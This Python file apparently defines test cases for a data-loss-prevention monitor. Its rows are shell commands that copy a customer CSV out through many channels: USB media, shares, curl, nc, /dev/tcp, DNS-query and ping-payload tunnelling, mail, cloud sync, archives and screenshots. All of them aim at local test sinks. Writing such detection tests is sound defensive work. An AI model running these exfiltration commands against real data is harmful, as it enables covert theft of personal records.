"""The ways out: one row, one command line as somebody would type it. What it promises is written here, and nowhere else.

In a command: {s} the file (1,584 customers), {t} the name of this run, {m} the medium, {share} {bind} the network shares, {home} the
user's home, {out} a folder of the user's, {sink} the outside's folder, {ssh} {scp} the programs with the options that reach its
sshd; {http} {https} {ftp} {rsync} {sshport} {smtp} {dav} ports of its servers, {port} a listener of this run, {davshare} where the WebDAV
server is mounted, {dns} its name server's address, {echo} one for this run's pings, {printer} its print server.
"""

import dataclasses


CUSTOMERS = 1584


@dataclasses.dataclass(frozen=True)
class Row:
    command: str
    channel: str
    program: str                      # that the event names; one|other
    to: dict = dataclasses.field(default_factory=dict)   # of the event's destination; values may hold {…}
    unpack: str = "cat"               # makes what arrived readable again, from its input to its output
    at: str = ""                      # where that is, as a pattern in {out}; empty: anything of this run's name outside
    show: str = ""                    # or a command that prints it
    block: str = "yes"                # "late": it has happened when we see it; the README says why
    picture: bool = False             # what leaves is a picture: that there is one is all that can be asked of it
    knows_program: bool = True        # else the user at least
    fails: bool = True                # the tool says so when it is stopped
    same_event: bool = True           # the event is about this run's file; else about any of the user's (pipes have no name)
    arrives: int = CUSTOMERS          # so many customers at least: a slow way leaks some of them
    lags: bool = False                # arrives a moment after the tool has ended: somebody else sends it
    activity: str = ""                # events of this kind only
    parts: int = 1                    # events that tell of all the customers together
    reads: int = 0                    # events that each of them derives from


def network(command: str, program: str, port: str = "", address: str = "127.0.0.1", **more) -> Row:
    to = {"address": address} | ({"port": port} if port else {})
    return Row(command, "network_transfer", program, to, **more)


def gathering(command: str, program: str, **more) -> Row:
    """From eight files into one place that is no way out: it is told when it has happened, and thresholds count per place."""
    first = "split -n l/8 {s} {out}/{t}.part. && mkdir {out}/gathered-{t} && sleep 0.3 && "
    return Row(first + command, "local", program, {"kind": "folder", "name": "gathered-{t}"}, at="gathered-{t}/*", block="late",
               activity="write", **more)


QUERIES = "xxd -p -c 100 {s} | sed -E 's/.{{60}}/&./g; s/[.]?$/.{t}.t.example./'"  # a line of the file's bytes becomes a name


def medium(command: str, program: str, **more) -> Row:
    return Row(command, "removable_media", program, {"kind": "medium"}, **more)


ROWS = [
    # Staging: it goes nowhere yet. First, for nobody is in a hurry to tell of what stays here.
    gathering("cat {out}/{t}.part.* > {out}/gathered-{t}/all.csv", "cat", reads=8),
    gathering("cp {out}/{t}.part.* {out}/gathered-{t}/", "cp", parts=8, reads=1),
    # Removable media.
    medium("cp {s} {m}/{t}.csv", "cp"),
    medium("mv {s} {m}/{t}.csv", "mv"),
    medium("install -m 600 {s} {m}/{t}.csv", "install"),
    medium("dd if={s} of={m}/{t}.csv bs=64k status=none", "dd"),
    medium("cat {s} > {m}/{t}.csv", "cat"),
    medium("tee {m}/{t}.csv < {s} > /dev/null", "tee"),
    medium("sort {s} -o {m}/{t}.csv", "sort"),
    medium("tar -cf {m}/{t}.tar -C {d} export.csv", "tar"),
    medium("zip -q {m}/{t}.zip {s}", "zip", unpack="funzip"),
    medium("gzip -c {s} > {m}/{t}.gz", "gzip", unpack="gzip -dc"),
    medium("openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in {s} -out {m}/{t}.bin", "openssl",
           unpack="openssl enc -d -aes-256-cbc -pbkdf2 -pass pass:x"),
    medium("python3 -c \"import shutil; shutil.copyfile('{s}', '{m}/{t}.csv')\"", "python3"),
    medium("python3 -c \"import mmap; d = open('{s}', 'rb').read(); f = open('{m}/{t}.csv', 'wb+'); f.truncate(len(d)); "
           "mmap.mmap(f.fileno(), len(d))[:] = d\"", "python3"),
    medium("exec 3> {m}/{t}.csv; cat {s} >&3", "cat"),
    # Nobody is as fast as a shell: a file that is opened within some microseconds of its creation may be faster than its mark.
    medium("cp {s} {out}/{t}.png && sleep 0.3 && cp {out}/{t}.png {m}/{t}.png", "cp"),
    medium("base64 {s} > {out}/{t}.txt && sleep 0.3 && cp {out}/{t}.txt {m}/{t}.txt", "cp", unpack="base64 -d"),
    medium("rsync {s} {m}/{t}.csv", "rsync"),
    medium("cat {s} | tee {m}/{t}.csv > /dev/null", "tee", same_event=False),
    medium("gpg --batch --quiet --passphrase x -c -o {out}/{t}.gpg {s} && cp {out}/{t}.gpg {m}/{t}.gpg", "cp",
           unpack="gpg --batch --quiet --passphrase x -d"),
    # Network shares.
    Row("cp {s} {share}/{t}.csv", "network_share", "cp", {"kind": "share", "address": "127.0.0.1"}),
    Row("cat {s} > {share}/{t}.csv", "network_share", "cat", {"kind": "share", "address": "127.0.0.1"}),
    Row("cp {s} {davshare}/{t}.csv", "network_share", "cp", {"kind": "share", "address": "127.0.0.1"}, lags=True),
    Row("dd if={s} of={bind}/{t}.csv bs=64k status=none", "network_share", "dd", {"kind": "share"}),
    # Transfers.
    network("curl -sf -T {s} http://127.0.0.1:{http}/{t}", "curl", "{http}"),
    network("curl -sf --data-binary @{s} http://127.0.0.1:{http}/{t}", "curl", "{http}",
            fails=False),  # it warns, and sends nothing
    network("curl -sf -F file=@{s} http://127.0.0.1:{http}/{t}", "curl", "{http}"),
    network("curl -sfk -T {s} https://127.0.0.1:{https}/{t}", "curl", "{https}"),
    network("wget -q -O /dev/null --post-file={s} http://127.0.0.1:{http}/{t}", "wget", "{http}"),
    network("{scp} {s} vigie-way-sink@127.0.0.1:{sink}/{t}.csv", "scp", "{sshport}"),
    network("echo 'put {s} {sink}/{t}.csv' | {sftp} -b - vigie-way-sink@127.0.0.1", "sftp", "{sshport}"),
    network("rsync -e '{ssh}' {s} vigie-way-sink@127.0.0.1:{sink}/{t}.csv", "rsync"),
    network("rsync {s} rsync://127.0.0.1:{rsync}/in/{t}.csv", "rsync", "{rsync}"),
    network("ftp -u ftp://127.0.0.1:{ftp}/{t}.csv {s}", "tnftp", "{ftp}"),
    network("lftp -c 'open ftp://127.0.0.1:{ftp}; put {s} -o {t}.csv'", "lftp", "{ftp}"),
    network("rclone -q --config /dev/null copyto {s} :ftp,host=127.0.0.1,port={ftp},user=anonymous,pass={obscured}:{t}.csv", "rclone", "{ftp}"),
    network("socat -u FILE:{s} TCP:127.0.0.1:{port}", "socat", "{port}"),
    network("nc -N 127.0.0.1 {port} < {s}", "nc.openbsd", "{port}"),
    network("ncat --send-only 127.0.0.1 {port} < {s}", "ncat", "{port}"),
    network("{ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.csv' < {s}", "ssh", "{sshport}"),
    network("cat {s} > /dev/tcp/127.0.0.1/{port}", "cat", "{port}",
            fails=False),  # it was connected before: what it sends is dropped
    network("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port})).sendall(open('{s}', 'rb').read())\"",
            "python3", "{port}", fails=False),
    network("perl -MIO::Socket::INET -e 'open F, shift; print {{IO::Socket::INET->new(shift)}} <F>' {s} 127.0.0.1:{port}", "perl",
            "{port}"),
    network("cp /usr/bin/curl {out}/{t}; {out}/{t} -sf -T {s} http://127.0.0.1:{http}/{t}", "{t}", "{http}"),
    # Whoever opens the file is told, by the way out of the one who reads from him.
    network("cat {s} | nc -N 127.0.0.1 {port}", "cat", "{port}"),
    network("tar -cz -C {d} export.csv | base64 | curl -sf --data-binary @- http://127.0.0.1:{http}/{t}", "tar", "{http}",
            unpack="base64 -d | gzip -dc"),
    network("tar -c -C {d} export.csv | {ssh} vigie-way-sink@127.0.0.1 'cat > {sink}/{t}.tar'", "tar", "{sshport}"),
    network("gzip -c {s} > {out}/{t}.bin && curl -sf -T {out}/{t}.bin http://127.0.0.1:{http}/{t}", "curl", "{http}",
            unpack="gzip -dc"),
    network("zip -q -P x {out}/{t}.zip {s} && curl -sf -T {out}/{t}.zip http://127.0.0.1:{http}/{t}", "curl", "{http}",
            unpack="funzip -x"),
    # What asks for names and pings: nobody has to read a file for that. The first of a pipeline is told, to where the last one asks;
    # on a busy machine, where the shell makes it slowly, the last one. What is asked twice is garbled.
    network(QUERIES + " | dig @{dns} +tries=1 +time=2 -f - > /dev/null", "xxd|dig", "53", "{dns}", arrives=1500),
    network(QUERIES + " | nslookup - {dns} > /dev/null", "xxd|nslookup", "53", "{dns}", arrives=1500),
    network("python3 -c \"import socket; s = socket.socket(2, 2); d = open('{s}', 'rb').read().hex(); "
            "s.connect(('{dns}', 53)); p = lambda n: bytes(2) + b'\\1\\0\\0\\1' + bytes(6) + "
            "b''.join(bytes([len(x)]) + x.encode() for x in n.split('.')) + b'\\0\\0\\1\\0\\1'; "
            "[(s.send(p('%s.%s.{t}.t.example' % (d[i:i + 60], d[i + 60:i + 120] or '20'))), s.recv(999)) for i in range(0, len(d), 120)]\"",
            "python3", "53", "{dns}"),
    network("{{ sleep 0.2; head -c 640 {s}; }} | xxd -p -c 16 | "
            "while read -r hex; do ping -q -n -c 1 -W 1 -s 32 -p $hex {echo} > /dev/null || exit 1; done",
            "ping", address="{echo}", same_event=False, arrives=5),
    network("curl -sf -T {s} http://127.0.0.1:{dav}/{t}.csv", "curl", "{dav}"),
    network("rclone -q --config /dev/null copyto {s} \":webdav,url='http://127.0.0.1:{dav}':{t}.csv\"", "rclone", "{dav}"),
    # Version control.
    Row("git init -q {out}/{t} && cp {s} {out}/{t}/ && git -C {out}/{t} add export.csv", "version_control", "git",
        show="git -c safe.directory=* -C {out}/{t} cat-file -p :export.csv"),
    Row("hg init {out}/{t} && cp {s} {out}/{t}/ && hg -R {out}/{t} --cwd {out}/{t} commit -q -A -u x -m x", "version_control", "python3",
        show="hg -R {out}/{t} cat -r tip {out}/{t}/export.csv"),
    Row("mkdir {out}/{t} && cp {s} {out}/{t}/ && svn import -q -m x {out}/{t} file://{svn}/{t}", "version_control", "svn",
        {"kind": "folder"}, show="svn cat file://{svn}/{t}/export.csv"),
    # Mail.
    Row("swaks --silent 2 --to {t}@example.com --from x@example.com --server 127.0.0.1:{smtp} --attach @{s}", "email", "perl",
        {"kind": "mail", "name": "example.com"}),
    Row("echo text | mutt -F /dev/null -e 'set sendmail=\"{msmtp}\" copy=no' -s x -a {s} -- {t}@example.com", "email", "mutt",
        {"kind": "mail", "name": "example.com"}),
    Row("echo text | s-nail -n -S v15-compat -S mta=smtp://127.0.0.1:{smtp} -S smtp-auth=none -S from=x@example.com -s x -a {s} "
        "{t}@example.com", "email", "s-nail", {"kind": "mail", "name": "example.com"}),
    Row("cat {s} | {msmtp} {t}@example.com", "email", "cat", {"kind": "mail", "name": "example.com"}),
    # Paper and radio.
    Row("lp -h {printer} -d out -t {t} {s} > /dev/null", "print", "lp", {"kind": "printer", "name": "out"},
        show="for job in $(grep -la {t} {spool}/c*); do cat {spool}/d${{job##*/c}}-001; done"),
    Row("cp {s} {out}/{t}.csv && sleep 0.3 && {{ obexftp -n 127.0.0.1 -U none -H -p {out}/{t}.csv || [ $? = 255 ]; }}", "bluetooth", "obexftp",
        fails=False),  # it ends with 255 in any case
    # Clouds.
    Row("cp {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
    Row("cp {s} {home}/Dropbox/team/{t}.csv", "cloud_sync", "cp", {"kind": "folder"}),
    Row("mv {s} {home}/Nextcloud/{t}.csv", "cloud_sync", "mv", {"kind": "folder"}, block="late",
        knows_program=False),  # mv opens nothing and is gone: its user is known by the file's owner
    Row("rclone -q --config {home}/rclone.conf copyto {s} drive:{t}.csv", "cloud_sync", "rclone", {"name": "drive"}),
    # Archives.
    Row("zip -q {out}/{t}.zip {s}", "archive", "zip", at="{t}.zip", unpack="funzip"),
    Row("tar -czf {out}/{t}.tgz -C {d} export.csv", "archive", "tar", at="{t}.tgz", unpack="gzip -dc"),
    Row("7z a -bd -psecret {out}/{t}.7z {s} > /dev/null", "archive", "7z", show="7z e -psecret -so {out}/{t}.7z"),
    Row("xz -k -c {s} > {out}/{t}.xz", "archive", "xz", at="{t}.xz", unpack="xz -dc"),
    Row("zstd -q {s} -o {out}/{t}.zst", "archive", "zstd", at="{t}.zst", unpack="zstd -dc"),
    Row("gpg --batch --quiet --passphrase x -c -o {out}/{t}.gpg {s}", "archive", "gpg", at="{t}.gpg",
        unpack="gpg --batch --quiet --passphrase x -d"),
    Row("age -R {age}.pub -o {out}/{t}.age {s}", "archive", "age", at="{t}.age", unpack="age -d -i {age}"),
    # The screen: somebody has the file open, and a picture is taken.
    Row("tail -f {s} > /dev/null 2>&1 & sleep 0.5; DISPLAY={display} scrot {out}/{t}.png; ended=$?; kill %1; exit $ended", "screenshot", "bash", at="{t}.png", picture=True,
        same_event=False),  # it is told with all that this user's carriers have read,
]

# What no row shows, and why.
UNSUPPORTED = [
    ("bluetooth-sendto FILE", "bluetooth", "needs a Bluetooth adapter, bluetoothd and a desktop's window; obexd opens the file: it is known as "
     "a way out, and obexftp's row shows the channel"),
    ("obexput -b ADDRESS FILE, ussp-push", "bluetooth", "need a Bluetooth adapter"),
    ("hping3 --icmp -E FILE HOST", "network_transfer", "only root may send such packets"),
]
